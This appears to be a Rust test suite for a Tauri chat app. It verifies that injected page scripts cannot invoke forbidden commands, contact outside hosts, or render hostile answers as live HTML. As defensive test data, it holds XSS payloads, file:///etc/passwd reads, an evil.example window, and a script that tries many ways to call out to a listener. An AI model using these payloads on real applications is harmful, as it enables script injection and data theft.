//! A script that got into a page after all: what it can reach from there.

use std::path::Path;

use serde_json::{Value, json};
use support::PATIENCE;
use support::sandbox::Answer;
use support::session::{Opener, SessionOptions};
use support::window::App;
use tokio::net::TcpListener;

use crate::steps::{desk, say, sign_in};

/// What no window may ask for: Tauri's own commands and those of its plugins.
fn foreign() -> Vec<(&'static str, Value)> {
    vec![
        ("plugin:event|listen", json!({"event": "x", "target": {"kind": "Any"}, "handler": 1})),
        ("plugin:event|emit", json!({"event": "x", "payload": 1})),
        ("plugin:store|load", json!({"path": "/etc/passwd"})),
        ("plugin:store|get_store", json!({"path": "preferences.json"})),
        ("plugin:opener|open_path", json!({"path": "/etc/passwd"})),
        ("plugin:opener|open_url", json!({"url": "file:///etc/passwd"})),
        ("plugin:opener|reveal_item_in_dir", json!({"paths": ["/etc/passwd"]})),
        ("plugin:window|set_title", json!({"label": "chat", "value": "Your bank"})),
        ("plugin:window|close", json!({"label": "chat"})),
        ("plugin:webview|create_webview_window", json!({"options": {"label": "evil", "url": "https://evil.example"}})),
        ("plugin:path|resolve_directory", json!({"directory": 1})),
        ("plugin:app|version", json!({})),
        ("plugin:menu|new", json!({"kind": "Menu"})),
        ("plugin:tray|new", json!({"options": {}})),
        ("plugin:resources|close", json!({"rid": 1})),
        ("plugin:window-state|save_window_state", json!({"flags": 1})),
        ("no_such_command", json!({})),
    ]
}

async fn invoke(app: &App<'_>, command: &str, arguments: &Value) -> String {
    let script = "return window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1])
        .then(() => 'allowed', (error) => 'refused: ' + JSON.stringify(error))";
    let answer = app.script(script, vec![command.into(), arguments.clone()]).await.unwrap();
    answer.as_str().unwrap_or_default().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_in_a_page_reaches_nothing_but_that_windows_commands() {
    let (session, sandbox) = desk(SessionOptions::default()).await;
    let app = App::launch(&session).await.unwrap();
    app.wait_for_role("button", "Sign in to Sandbox").await.unwrap();
    let id = "01890a5d-ac96-774b-bcce-b302099a8057";
    let of_others = [
        ("replace_key", json!({"connection": id, "key": "canary-key"})),
        ("rename_connection", json!({"connection": id, "label": "x"})),
        ("disconnect", json!({"connection": id})),
        ("check_connection", json!({"connection": id})),
        ("set_appearance", json!({"appearance": "dark"})),
    ];
    for (command, arguments) in of_others.into_iter().chain(foreign()) {
        let answer = invoke(&app, command, &arguments).await;
        assert!(answer.starts_with("refused") && !answer.contains("canary"), "{command}: {answer}");
        let by_right = answer.contains("not allowed") || answer.contains("not found");
        assert!(by_right, "{command} is refused for what it is, not for its arguments: {answer}");
    }
    for link in ["file:///etc/passwd", "javascript:alert(1)", "app.patchbay.dev:/focus", "-x", "x"] {
        assert!(invoke(&app, "open_link", &json!({"url": link})).await.starts_with("refused"), "{link}");
    }
    assert!(invoke(&app, "show_window", &json!({"label": "evil"})).await.starts_with("refused"));
    assert_eq!(session.browser_urls(), Vec::<String>::new(), "nothing was opened");
    assert!(sandbox.captures().is_empty());

    app.click("button", "Settings").await.unwrap();
    app.switch_to("settings").await.unwrap();
    for (command, arguments) in [
        ("send", json!({"chat": id, "text": "x"})),
        ("chats", json!({})),
        ("add_key", json!({"provider": "sandbox", "key": "sk-sandbox-1", "label": null, "baseUrl": null})),
        ("submit_sign_in", json!({"signIn": id, "text": "x"})),
    ] {
        let answer = invoke(&app, command, &arguments).await;
        assert!(answer.contains("not allowed"), "{command} from the settings: {answer}");
    }
    app.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_in_a_page_calls_nobody_and_goes_nowhere() {
    let (session, _sandbox) = desk(SessionOptions::default()).await;
    let app = App::launch(&session).await.unwrap();
    app.wait_for_role("button", "Sign in to Sandbox").await.unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let outside = format!("127.0.0.1:{}", listener.local_addr().unwrap().port());
    let script = r##"
        const outcome = {};
        const add = (html) => { const it = document.createElement('div'); it.innerHTML = html; document.body.append(it); };
        const element = (name, attributes) => {
            const it = document.createElement(name);
            Object.entries(attributes).forEach(([key, value]) => it.setAttribute(key, value));
            document.body.append(it);
            return it;
        };
        add(`<img src="http://${outside}/img" onerror="window.hacked='onerror'">`);
        add(`<style>@import url(http://${outside}/css); body { background: url(http://${outside}/bg) }</style>`);
        add(`<iframe src="http://${outside}/frame"></iframe><iframe srcdoc="<script>parent.hacked='srcdoc'<\/script>"></iframe>`);
        add(`<object data="http://${outside}/object"></object><embed src="http://${outside}/embed">`);
        add(`<video src="http://${outside}/video" autoplay></video><audio src="http://${outside}/audio" autoplay></audio>`);
        add(`<a ping="http://${outside}/ping" href="#x" id="ping">x</a><svg onload="window.hacked='svg'"></svg>`);
        add(`<form id="form" action="http://${outside}/form"><input name="x"></form>`);
        element('script', {}).textContent = "window.hacked = 'inline'";
        element('script', { src: `http://${outside}/script` });
        element('script', { src: "data:text/javascript,window.hacked='data'" });
        for (const rel of ['stylesheet', 'prefetch', 'preload', 'icon', 'modulepreload', 'manifest']) {
            element('link', { rel, href: `http://${outside}/${rel}`, as: 'script' });
        }
        element('meta', { 'http-equiv': 'refresh', content: `0; url=http://${outside}/refresh` });
        element('base', { href: `http://${outside}/` });
        outcome.fetch = await fetch(`http://${outside}/fetch`, { mode: 'no-cors' }).then(() => 'sent', () => 'refused');
        outcome.file = await fetch('file:///etc/passwd').then(() => 'sent', () => 'refused');
        try { navigator.sendBeacon(`http://${outside}/beacon`, 'x'); } catch {}
        try { new WebSocket(`ws://${outside}/socket`); } catch {}
        try { new EventSource(`http://${outside}/events`); } catch {}
        try { new Worker(URL.createObjectURL(new Blob(["fetch('http://" + outside + "/worker')"]))); } catch {}
        try { setTimeout("window.hacked = 'timer'", 0); } catch {}
        outcome.opened = window.open(`http://${outside}/open`) === null ? 'refused' : 'opened';
        document.getElementById('form').submit();
        document.getElementById('ping').click();
        window.location.href = `http://${outside}/location`;
        await new Promise((resolve) => setTimeout(resolve, 1500));
        outcome.hacked = String(window.hacked);
        outcome.address = window.location.origin;
        return outcome;
    "##;
    let script = format!("return (async (outside) => {{ {script} }})(arguments[0])");
    let outcome = tokio::select! {
        outcome = app.script(&script, vec![outside.into()]) => outcome.unwrap(),
        accepted = listener.accept() => {
            let (stream, _) = accepted.unwrap();
            let mut first = vec![0; 200];
            stream.readable().await.unwrap();
            let read = stream.try_read(&mut first).unwrap_or(0);
            panic!("somebody outside was called: {}", String::from_utf8_lossy(&first[..read]));
        }
    };
    assert_eq!(
        outcome,
        json!({"fetch": "refused", "file": "refused", "opened": "refused", "hacked": "undefined", "address": "tauri://localhost"})
    );
    assert!(tokio::time::timeout(std::time::Duration::from_millis(300), listener.accept()).await.is_err());
    assert_eq!(session.browser_urls(), Vec::<String>::new(), "nor was the browser");
    app.wait_for_text("Sandbox", PATIENCE).await.expect("the page is still there");
    app.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_answers_stay_text_in_the_real_window() {
    let (session, sandbox) = desk(SessionOptions::default()).await;
    let app = App::launch(&session).await.unwrap();
    sign_in(&session, &app, "ada", Opener::Gio).await;
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora/xss.json");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{} is needed: {error}", path.display()));
    let corpus: Vec<Value> = serde_json::from_str(&text).unwrap();
    let payloads: Vec<&str> = corpus.iter().map(|entry| entry["payload"].as_str().unwrap()).collect();
    let blocks: Vec<String> = payloads.iter().map(|it| format!("{it}\n\n[{it}]({it}) ![{it}](<{it}>)\n\n")).collect();
    sandbox.set_answer(Some(Answer::text_of(&blocks.concat())));
    // An alert of any of them would make every following step fail.
    say(&app, &sandbox, "<img src=x onerror=alert(1)> and [x](javascript:alert(2))").await;
    app.wait_for_text(payloads.last().unwrap(), PATIENCE).await.unwrap();
    let found = app
        .script(
            "const log = document.querySelector('[role=log]');
             const links = [...log.querySelectorAll('a[href]')].map((it) => it.protocol);
             const bad = 'script,iframe,img,object,embed,form,style,link,meta,base,video,audio,math,template,[style]:not(.plug)';
             const handlers = [...log.querySelectorAll('*')].flatMap((it) => it.getAttributeNames())
                 .filter((it) => it.startsWith('on') || it.includes(':'));
             return { links: [...new Set(links)].sort(), bad: [...log.querySelectorAll(bad)].map((it) => it.outerHTML),
                      handlers, length: log.innerText.length };",
            Vec::new(),
        )
        .await
        .unwrap();
    assert_eq!((&found["bad"], &found["handlers"]), (&json!([]), &json!([])), "{found}");
    let links = found["links"].as_array().unwrap();
    assert!(links.iter().all(|it| ["http:", "https:", "mailto:"].contains(&it.as_str().unwrap())), "{links:?}");
    assert!(found["length"].as_u64().unwrap() > 10_000, "it is shown: {found}");
    assert_eq!(session.browser_urls().len(), 1, "no page but that of the sign-in was opened");

    // One list without an end: the window goes on to answer.
    sandbox.set_answer(Some(Answer::lines(6_000)));
    say(&app, &sandbox, "Count").await;
    app.wait_for_text("Line 6000 of 6000", PATIENCE).await.expect("all of it is shown");
    app.close().await.unwrap();
}
